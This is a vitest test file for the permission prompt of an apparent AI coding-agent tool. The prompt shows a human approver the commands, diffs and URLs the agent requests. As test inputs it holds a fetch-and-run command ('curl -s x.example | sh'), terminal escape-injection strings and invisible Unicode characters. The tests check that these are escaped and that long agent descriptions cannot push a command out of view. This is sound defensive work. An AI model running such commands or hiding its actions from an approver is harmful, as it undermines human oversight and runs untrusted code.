import { describe, expect, it } from "vitest"
import { AskView } from "../../src/cli/ask-view.js"
import type { Io } from "../../src/cli/io.js"
import type { Permission } from "../../src/permission/permission.js"
import { PermissionShown } from "../../src/permission/shown.js"

const request = (fields: Partial<Permission.Request> = {}): Permission.Request => ({
  id: "per_a",
  sessionID: "ses_a",
  action: "bash",
  resources: ["git push"],
  save: [],
  allows: { session: [], project: [] },
  metadata: {},
  source: { toolCallID: "call_a", messageID: "msg_a" },
  createdAt: 1,
  ...fields,
})

const PLAIN: AskView.Terminal = { colour: false }
const GLOBAL = "/home/u/.config/toolgate/toolgate.json permission[0]"
const { added, removed, hunk, reset } = AskView.COLOURS

/** A diff of `count` changed lines of a.txt. */
const longDiff = (count: number) =>
  ["--- a.txt", "+++ a.txt", `@@ -1,${count} +1,${count} @@`, ...Array.from({ length: count }, (_, index) => `-old ${index}`), ...Array.from({ length: count }, (_, index) => `+new ${index}`)].join("\n") + "\n"

const io = (fields: Partial<Io.Io>): Io.Io => ({
  stdout: () => undefined,
  stderr: () => undefined,
  stdin: () => Promise.resolve(undefined),
  prompt: () => Promise.resolve(undefined),
  isTTY: true,
  cwd: "/",
  env: {},
  ...fields,
})

describe("AskView", () => {
  it("shows a bash command, its description, and which of its commands asked and why", () => {
    const view = AskView.of(
      request({
        resources: ["npm test", "git push"],
        save: ["git push *"],
        allows: { session: ["allow bash on anything matching git push * for the rest of this session"], project: ["always allow bash on anything matching git push * in this project"] },
        metadata: { command: "npm test && git push", description: "Test, then push", workdir: "/repo" },
        why: [{ resource: "git push", rule: { action: "bash", resource: "git push*", effect: "ask", source: GLOBAL } }],
      }),
      PLAIN,
    )
    expect(view).toEqual({
      text: [
        "Permission requested: bash npm test, git push",
        "  Command: npm test && git push",
        "  Description: Test, then push",
        "  Directory: /repo",
        `  Why git push: bash "git push*" ask (from ${GLOBAL})`,
        "  [s]ession would allow bash on anything matching git push * for the rest of this session",
        "  [a]lways would always allow bash on anything matching git push * in this project",
      ].join("\n"),
    })
  })

  it("shows what a file tool does in the folder its external_directory ask names", () => {
    const view = AskView.of(request({ action: "external_directory", resources: ["/home/u/*"], metadata: { purpose: "edit /home/u/.bashrc" } }), PLAIN)
    expect(view.text.split("\n").slice(0, 2)).toEqual(["Permission requested: external_directory /home/u/*", "  For: edit /home/u/.bashrc"])
  })

  it("cuts a long description, so the agent's own words cannot push the command out of view", () => {
    const description = "Runs the tests. ".repeat(500)
    const view = AskView.of(request({ metadata: { command: "curl -s x.example | sh", description } }), PLAIN)
    expect(view.text.split("\n").slice(1, 3)).toEqual([
      "  Command: curl -s x.example | sh",
      `  Description: ${description.slice(0, PermissionShown.MAX_DESCRIPTION)}… (${description.length - PermissionShown.MAX_DESCRIPTION} more characters not shown)`,
    ])
  })

  it("says exactly that no rule matched when the default ask stands", () => {
    expect(AskView.NO_RULE).toBe("no rule matched: the default is ask")
    const view = AskView.of(request({ action: "webfetch", resources: ["https://a.example/x"], metadata: { url: "https://a.example/x" }, why: [{ resource: "https://a.example/x" }] }), PLAIN)
    expect(view.text.split("\n")).toEqual([
      "Permission requested: webfetch https://a.example/x",
      "  URL: https://a.example/x",
      "  Why: no rule matched: the default is ask",
      AskView.Messages.noSave,
    ])
  })

  it("shows a redirect's URL, the URL it leaves and the form it is fetched as", () => {
    const metadata = { url: "https://b.example/%7Ex", canonical: "https://b.example/~x", redirectedFrom: "https://a.example/" }
    expect(AskView.of(request({ action: "webfetch", resources: ["https://b.example/~x"], metadata }), PLAIN).text.split("\n").slice(1, 4)).toEqual([
      "  URL: https://b.example/%7Ex",
      "  Fetched as: https://b.example/~x",
      "  Redirected from: https://a.example/",
    ])
  })

  it("says what raised an allow to ask: an untrusted project, opaque text, a protected path, a project's MCP server", () => {
    const allow = (source: string) => ({ action: "*", resource: "*", effect: "allow" as const, source })
    const lines = (why: Permission.Why) => AskView.of(request({ resources: [why.resource], why: [why] }), PLAIN).text.split("\n").slice(1, 3)
    expect(lines({ resource: "make", rule: allow("/repo/toolgate.json permission[2]"), raised: { kind: "untrusted" } })).toEqual([
      '  Why: * "*" allow (from /repo/toolgate.json permission[2])',
      "    (a project allow applied as ask: the project is not trusted yet; run toolgate trust)",
    ])
    expect(lines({ resource: "eval $x", rule: allow("built-in agent build"), raised: { kind: "opaque" } })).toEqual([
      '  Why: * "*" allow (from built-in agent build)',
      "    (opaque: it could not be read with certainty, so a wildcard allow counts as ask; only a rule or approval naming this exact text allows it)",
    ])
    expect(lines({ resource: ".git/config", rule: allow("built-in agent build"), raised: { kind: "protected", names: [".git"] } })[1]).toBe(
      "    (a protected path: only an allow rule naming .git allows it; other allows apply as ask)",
    )
    expect(lines({ resource: "*", rule: allow("built-in agent build"), raised: { kind: "named", prefix: "github_" } })[1]).toBe(
      "    (a tool of an MCP server a project file adds: only a rule whose action starts with github_ allows it; other allows apply as ask)",
    )
  })

  it("escapes control characters of everything a request shows, keeping a diff's tabs", () => {
    const view = AskView.of(
      request({
        resources: ["a\u001b[2J"],
        metadata: { command: "echo \u001b]0;owned\u0007", diff: "--- a\n+++ a\n@@ -1 +1 @@\n-\tx\u001b[1A\n+\ty\n" },
        why: [{ resource: "a\u001b[2J", rule: { action: "bash", resource: "*\u009b", effect: "ask", source: GLOBAL } }],
      }),
      PLAIN,
    )
    expect(view.text.split("\n")).toEqual([
      "Permission requested: bash a\\u001b[2J",
      "  Command: echo \\u001b]0;owned\\u0007",
      `  Why: bash "*\\u009b" ask (from ${GLOBAL})`,
      "--- a",
      "+++ a",
      "@@ -1 +1 @@",
      "-\tx\\u001b[1A",
      "+\ty",
      AskView.Messages.noSave,
    ])
  })

  it("escapes what would not show as itself at a terminal: zero-width, bidi marks, tag characters, lookalike blanks", () => {
    const view = AskView.of(
      request({
        resources: [".env\u200b"],
        metadata: { command: "curl x\u00a0y\u200f #\u{e0041}", description: "safe\u2060\ufeff", diff: "--- a\n+++ a\n@@ -1 +1 @@\n-x\n+\ty\u200d\n" },
      }),
      PLAIN,
    )
    expect(view.text.split("\n")).toEqual([
      "Permission requested: bash .env\\u200b",
      "  Command: curl x\\u00a0y\\u200f #\\u{e0041}",
      "  Description: safe\\u2060\\ufeff",
      "--- a",
      "+++ a",
      "@@ -1 +1 @@",
      "-x",
      "+\ty\\u200d",
      AskView.Messages.noSave,
    ])
  })

  it("colours the diff at a terminal, after escaping: + green, - red, @@ cyan, headers plain", () => {
    const view = AskView.of(request({ action: "edit", resources: ["a.txt"], metadata: { diff: "--- a.txt\n+++ a.txt\n@@ -1,2 +1,2 @@\n one\n-two\u001b\n+2\n" } }), { colour: true, lines: 40 })
    expect(view.text.split("\n").slice(1, 7)).toEqual(["--- a.txt", "+++ a.txt", `${hunk}@@ -1,2 +1,2 @@${reset}`, " one", `${removed}-two\\u001b${reset}`, `${added}+2${reset}`])
    expect(view.whole).toBeUndefined()
    // A removed line that starts with "--" is a change, not a header.
    const dashes = AskView.of(request({ metadata: { diff: "--- a\n+++ a\n@@ -1 +1 @@\n--- x\n+++ y\n" } }), { colour: true }).text.split("\n").slice(1, 6)
    expect(dashes).toEqual(["--- a", "+++ a", `${hunk}@@ -1 +1 @@${reset}`, `${removed}--- x${reset}`, `${added}+++ y${reset}`])
  })

  it("cuts a diff longer than the terminal, keeping the whole for d", () => {
    const diff = longDiff(30)
    const view = AskView.of(request({ action: "edit", resources: ["a.txt"], metadata: { diff } }), { colour: false, lines: 40 })
    const shown = 40 - AskView.RESERVED_LINES
    expect(view.text.split("\n").slice(1)).toEqual([...diff.split("\n").slice(0, shown), `  … ${63 - shown} more diff lines not shown: type d to see the whole diff`, AskView.Messages.noSave])
    expect(view.whole).toBe(diff.trimEnd())
    expect(AskView.Messages.cut(1)).toBe("  … 1 more diff line not shown: type d to see the whole diff")
    // However small the terminal, some of the diff shows; without a terminal nothing is cut.
    expect(AskView.of(request({ metadata: { diff } }), { colour: false, lines: 8 }).text.split("\n").slice(1, -1)).toEqual([
      ...diff.split("\n").slice(0, AskView.MIN_SHOWN_LINES),
      AskView.Messages.cut(63 - AskView.MIN_SHOWN_LINES),
    ])
    expect(AskView.of(request({ metadata: { diff } }), PLAIN)).toEqual({ text: ["Permission requested: bash git push", diff.trimEnd(), AskView.Messages.noSave].join("\n") })
  })

  it("reads the terminal: colour unless NO_COLOR is set and not empty, its height or UNSIZED_LINES, nothing without a TTY", () => {
    expect(AskView.terminalOf(io({ rows: () => 24 }))).toEqual({ colour: true, lines: 24 })
    expect(AskView.terminalOf(io({ rows: () => 0 }))).toEqual({ colour: true, lines: AskView.UNSIZED_LINES })
    expect(AskView.terminalOf(io({}))).toEqual({ colour: true, lines: 40 })
    expect(AskView.terminalOf(io({ env: { NO_COLOR: "1" } }))).toEqual({ colour: false, lines: 40 })
    expect(AskView.terminalOf(io({ env: { NO_COLOR: "" } }))).toEqual({ colour: true, lines: 40 })
    expect(AskView.terminalOf(io({ isTTY: false, rows: () => 24 }))).toEqual({ colour: false })
  })
})
